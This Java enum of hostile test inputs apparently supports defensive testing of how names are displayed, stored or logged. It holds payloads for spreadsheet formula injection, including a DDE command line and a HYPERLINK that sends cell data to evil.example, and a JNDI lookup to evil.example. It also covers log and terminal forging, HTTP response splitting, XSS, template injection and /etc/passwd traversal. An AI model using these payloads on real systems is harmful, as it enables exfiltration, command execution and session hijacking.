package dev.companion.testing.hostile;

import java.util.List;
import java.util.stream.Stream;

/** A name that attacks what shows, stores or logs it. */
public enum HostileName {
    FORMULA(Kind.SPREADSHEET, "=1+1"),
    FORMULA_WITH_PLUS(Kind.SPREADSHEET, "+1+1"),
    FORMULA_WITH_MINUS(Kind.SPREADSHEET, "-1+1"),
    FORMULA_WITH_AT(Kind.SPREADSHEET, "@SUM(1,1)"),
    FORMULA_WITH_COMMAND(Kind.SPREADSHEET, "=cmd|'/C calc'!A0"),
    FORMULA_WITH_LINK(Kind.SPREADSHEET, "=HYPERLINK(\"https://evil.example/?\"&A1,\"Acme\")"),
    FORMULA_AFTER_SEMICOLON(Kind.SPREADSHEET, "Acme;=1+1"),
    FORMULA_AFTER_COMMA(Kind.SPREADSHEET, "Acme,=1+1"),
    FORMULA_AFTER_TAB(Kind.SPREADSHEET, "Acme\t=1+1"),
    FORMULA_AFTER_CR(Kind.SPREADSHEET, "Acme\r=1+1"),
    FORMULA_AFTER_LF(Kind.SPREADSHEET, "Acme\n=1+1"),
    FORMULA_AFTER_QUOTE_AND_SEMICOLON(Kind.SPREADSHEET, "Acme\";=1+1"),
    FORMULA_IN_QUOTES(Kind.SPREADSHEET, "Acme;\"=1+1\""),
    FORMULA_AFTER_BLANK(Kind.SPREADSHEET, " \u00A0=1+1"),
    FORMULA_AFTER_INVISIBLE(Kind.SPREADSHEET, "\uFEFF\u200B=1+1"),
    FORMULA_FULL_WIDTH(Kind.SPREADSHEET, "\uFF1D1+1"),
    FORMULA_FULL_WIDTH_PLUS(Kind.SPREADSHEET, "\uFF0B1+1"),
    FORMULA_FULL_WIDTH_MINUS(Kind.SPREADSHEET, "Acme;\uFF0D1+1"),
    FORMULA_FULL_WIDTH_AT(Kind.SPREADSHEET, "\uFF20SUM(1)"),
    FORMULA_SMALL(Kind.SPREADSHEET, "\uFE661+1"),

    FORGED_LINE(Kind.LOG, "Acme\n2026-11-01T10:00:00.000Z INFO  [main] d.c.Console signed in"),
    FORGED_LINE_WITH_CR(Kind.LOG, "Acme\r\n2026-11-01T10:00:00.000Z ERROR forged"),
    FORGED_LINE_OF_UNICODE(Kind.LOG, "Acme\u2028forged\u2029forged\u0085forged\u000Bforged\fforged"),
    TERMINAL_SEQUENCE(Kind.LOG, "Acme\u001B[2J\u001B]0;owned\u0007"),
    LOOK_UP(Kind.LOG, "${jndi:ldap://evil.example/a}${env:HOME}%n%msg{}{}"),

    SPLIT_RESPONSE(Kind.HEADER, "Acme\r\nSet-Cookie: session=evil\r\n\r\n<html>"),
    SPLIT_FILE_NAME(Kind.HEADER, "acme\"; filename=\"evil.exe"),
    BELL(Kind.HEADER, "Acme\u0000\u0007"),

    SCRIPT(Kind.HTML, "<script>alert(1)</script>"),
    IMAGE(Kind.HTML, "<img src=x onerror=alert(1)>"),
    OUT_OF_ATTRIBUTE(Kind.HTML, "\" autofocus onfocus=alert(1) x=\""),
    OUT_OF_ATTRIBUTE_SINGLE(Kind.HTML, "' onmouseover='alert(1)"),
    OUT_OF_COMMENT(Kind.HTML, "--><svg/onload=alert(1)>"),
    OUT_OF_TITLE(Kind.HTML, "</title></textarea></style></script><b>bold"),
    TEMPLATE(Kind.HTML, "${7*7}*{7*7}#{7*7}@{7*7}~{7*7}[[${7*7}]][(${7*7})]__${7*7}__::.x"),
    LINK(Kind.HTML, "javascript:alert(1)"),

    OTHER_TENANT(Kind.TOPIC, "other-tenant|site-1"),
    SEPARATOR(Kind.TOPIC, "|"),
    SEPARATOR_AT_END(Kind.TOPIC, "acme|"),
    PATH(Kind.TOPIC, "../../etc/passwd"),
    LONG(Kind.TOPIC, "x".repeat(5_000)),

    NO(Kind.TEXT, "no"),
    OFF(Kind.TEXT, "off"),
    FALSE(Kind.TEXT, "false"),
    NULL(Kind.TEXT, "null"),
    ZERO(Kind.TEXT, "0"),
    EMPTY(Kind.TEXT, ""),
    BLANKS(Kind.TEXT, " \u00A0\u2003 "),
    INVISIBLE(Kind.TEXT, "\u200B\u2060\uFEFF"),
    RIGHT_TO_LEFT(Kind.TEXT, "Acme \u202Egnp.exe"),
    LONE_SURROGATE(Kind.TEXT, "Acme \uD83D"),
    EMOJI(Kind.TEXT, "Acme \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67"),
    COMBINING(Kind.TEXT, "A\u0300\u0301\u0302\u0303\u0304\u0305cme");

    /** Whom a name attacks. */
    public enum Kind {
        SPREADSHEET,
        LOG,
        HEADER,
        HTML,
        TOPIC,
        /** Code that takes a text for a value. */
        TEXT
    }

    private final Kind kind;
    private final String text;

    HostileName(Kind kind, String text) {
        this.kind = kind;
        this.text = text;
    }

    public Kind kind() {
        return kind;
    }

    public String text() {
        return text;
    }

    /** All texts of some kinds; all texts if no kind is given. */
    public static List<String> texts(Kind... kinds) {
        var chosen = List.of(kinds);
        return Stream.of(values())
                .filter(name -> chosen.isEmpty() || chosen.contains(name.kind))
                .map(HostileName::text)
                .toList();
    }
}
